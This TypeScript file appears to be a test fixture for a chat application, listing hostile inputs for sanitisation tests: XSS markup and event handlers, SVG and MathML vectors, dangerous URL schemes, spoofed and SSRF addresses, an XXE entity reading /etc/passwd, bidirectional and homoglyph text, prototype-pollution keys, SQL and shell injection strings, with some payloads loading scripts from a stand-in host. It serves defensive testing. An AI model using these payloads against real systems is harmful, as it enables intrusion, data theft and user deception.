import { MORE_PAYLOADS } from './hostile-more-payloads.ts';

/** Texts that mean harm wherever they are shown: as markup, as addresses, as letters that pass for others, by their sheer size. */

/** Whatever of this runs leaves a mark that tests look for. */
const RUN = 'window.pwned=1';
/** A host that nobody may ever ask. */
export const FORBIDDEN_HOST = 'forbidden.example';

const scripts = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=//${FORBIDDEN_HOST}/x.js></SCRIPT>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `-->\n<script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>import('//${FORBIDDEN_HOST}/m.js')</script>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`,
  `\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `$t(chat.showAll)`, `{{name}} {{text}} {{count}}`, `$&$1$\`$'$$`,
];

const handlers = [
  `<img src=x onerror=${RUN}>`, `<img src="https://${FORBIDDEN_HOST}/1.png">`, `<img srcset="//${FORBIDDEN_HOST}/2.png 1x">`, `<image src=x onerror=${RUN}>`, `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<keygen autofocus onfocus=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<video src=//${FORBIDDEN_HOST}/v.mp4 autoplay>`, `<audio src=x onerror=${RUN}>`, `<details open ontoggle=${RUN}>`, `<marquee onstart=${RUN}>`, `<div onmouseover=${RUN} style="position:fixed;inset:0">x</div>`,
  `<a href=# onclick=${RUN}>x</a>`, `<button popovertarget=p onclick=${RUN}>x</button>`, `<form action=//${FORBIDDEN_HOST}><button>x</button></form>`, `<isindex action=javascript:${RUN}>`,
  `<object data=//${FORBIDDEN_HOST}/o.swf></object>`, `<embed src=//${FORBIDDEN_HOST}/e.swf>`, `<iframe src=//${FORBIDDEN_HOST}/></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src=//${FORBIDDEN_HOST}></frameset>`, `<portal src=//${FORBIDDEN_HOST}>`, `<link rel=stylesheet href=//${FORBIDDEN_HOST}/c.css>`, `<link rel=prefetch href=//${FORBIDDEN_HOST}/p>`,
  `<base href=//${FORBIDDEN_HOST}/>`, `<meta http-equiv=refresh content="0;url=//${FORBIDDEN_HOST}/">`, `<style>*{display:none!important}</style>`, `<style>@import '//${FORBIDDEN_HOST}/i.css'</style>`,
  `<p style="background:url(//${FORBIDDEN_HOST}/b.png)">x</p>`, `<p style="animation-name:x" onanimationstart=${RUN}>x</p>`, `<x contenteditable onblur=${RUN}>x</x>`, `<custom-element onclick=${RUN}>x</custom-element>`,
];

const vectors = [
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`, `<svg><foreignObject><iframe src=//${FORBIDDEN_HOST}/></foreignObject></svg>`,
  `<svg><image href="https://${FORBIDDEN_HOST}/s.png"/></svg>`, `<svg><set attributeName=href to=javascript:${RUN}>`, `<svg><style>{font-family:'<img/src=x onerror=${RUN}>'`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`, `<![CDATA[<script>${RUN}</script>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<?xml-stylesheet href="//${FORBIDDEN_HOST}/x.xsl"?>`, `<!--#exec cmd="id"-->`, `<html xmlns='http://www.w3.org/1999/xhtml'><body><b>x</b></body></html>`, `</body></message><message><body>second`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`, `&amp;lt;b&amp;gt;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3Cscript\\x3E${RUN}\\x3C/script\\x3E`, `%3Cscript%3E${RUN}%3C/script%3E`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** None of these may become something to click. */
export const BAD_SCHEMES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `javascript://https://${FORBIDDEN_HOST}/%0a${RUN}`, `vbscript:msgbox(1)`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
  'file:///etc/passwd', 'file://server/share', 'smb://server/share', '\\\\server\\share\\x.exe', 'ms-msdt:/id PCWDiagnostic', 'search-ms:query=x', 'ms-officecmd:{}', 'vnc://10.0.0.1', 'ssh://-oProxyCommand=id/x', 'telnet://10.0.0.1:23',
  'ftp://10.0.0.1/', 'sftp://10.0.0.1/', 'dav://10.0.0.1/', 'ldap://10.0.0.1/', 'gopher://10.0.0.1/', 'jar:https://a.example!/x', 'view-source:https://a.example', 'about:blank', 'chrome://settings', 'devtools://devtools',
  'app://linnet/', 'blob:https://a.example/1', 'filesystem:https://a.example/x', 'intent://a#Intent;end', 'steam://run/1', 'zoommtg://x', 'tel:+1', 'sms:+1', 'geo:0,0', 'feed:https:x', 'ws://a.example', 'resource:///x', 'cid:1',
];

const addresses = [
  'https://bank.example@evil.example/', 'https://bank.example%2f@evil.example/', 'https:\\\\evil.example\\x', 'https:evil.example', 'http://[::1', 'https://аррӏе.example/', 'https://xn--80ak6aa92e.example/', 'https://evil.example/\u202egpj.exe',
  'https://evil.example/?q="><script>', `https://a.example/' onmouseover='${RUN}`, 'https://a.example/%00%0d%0aSet-Cookie:x', 'http://127.0.0.1:1/', 'http://169.254.169.254/latest', '[x](javascript:1)', '![x](https://forbidden.example/i.png)', '<https://a.example>',
];

const directions = [
  '\u202eabc', 'a\u202eb\u202cc', '\u2066a\u2069\u2069\u2069\u202ereversed', '\u2067x', '\u2068x', '\u202a\u202b\u202d\u202e', '\u200fabc', '\u061c1', 'cod\u202eexe.doc', 'שלום world', 'مرحبا 123 abc', '\u2069\u202e) ENILNO', 'x\u2028y\u2029z', '\ufeffBOM', 'user\u00ad\u200b\u2060name',
];

const letters = [
  `Z${'\u0300\u0489\u0315'.repeat(300)}`, 'Z̸̢̛͎a̴̡l̵̨g̷̢o̶̡'.repeat(20), '\u0300'.repeat(500), '👩‍👩‍👧‍👦'.repeat(80), `👩${'\u200d👩'.repeat(300)}`, '🏳️‍🌈🏴‍☠️🇺🇳', '\u200d\u200d\u200d', '𝕬𝖉𝖒𝖎𝖓', 'Аnn', 'A\u200bnn', 'Ann ', '\u3164', '\u2800', '\u00a0\u00a0', '﷽'.repeat(40), 'ǅ', '\u0378', '\ue000\u{10fffd}',
  'ด้้้้้็็็็็้้้้้็็็็็้้้้้้้้็็็็็้้้้้็็็็็้้้้้้้้', 'జ్ఞ\u200cా', 'سمَـَّوُوُحخ ̷̴̐خ ̷̴̐خ ̷̴̐خ امارتيخ ̷̴̐خ', '\ufffd\ufffc', '\u0080\u0085\u009f\u009b31m', '\ud7ff',
];

const sizes = ['\u2028'.repeat(4_000), '\u0085'.repeat(4_000), 'W'.repeat(1_000), 'w'.repeat(10_000), 'many words '.repeat(910), '\u200f'.repeat(10_000), '\n'.repeat(5_000), 'a\nb'.repeat(2_000), '\t'.repeat(2_000), `https://a.example/${'x'.repeat(5_000)}`, ')'.repeat(6_000), `https://a.example/${')'.repeat(6_000)}`, `https://${'.'.repeat(6_000)}x`, '*_`~'.repeat(2_000)];

const names = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', '{"__proto__":{"polluted":1}}', '__proto__[polluted]=1', 'constructor.prototype.polluted', 'undefined', 'null', 'NaN', '[object Object]', 'true', '0', '-1', '',
];

const lines = [
  'one\ntwo', 'one\r\ntwo', 'one\rtwo', '\n\nafter two lines',  '\\0', '%00', '\\u0000', '\u2400', '&#0;', 'a\\nb', "'; DROP TABLE messages; --", '" OR 1=1 --', '%s%n%d', '../../etc/passwd', 'CON', '\\', '`id`', '$(id)', '| id', '/me is <b>bold</b>',
];

/** Every payload, named by its kind, each once. All are legal XML. */
export const PAYLOADS: readonly { readonly kind: string; readonly text: string }[] = Object.entries({
  script: scripts, handler: handlers, vector: vectors, scheme: BAD_SCHEMES, address: addresses, direction: directions, letter: letters, size: sizes, name: names, line: lines,
  ...MORE_PAYLOADS,
}).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/** For XML: white space as references, so that it comes through attributes as it is. */
export function xmlEscape(text: string): string {
  return text.replace(/[&<>"'\n\r\t]/gu, (char) => `&#${char.charCodeAt(0)};`);
}
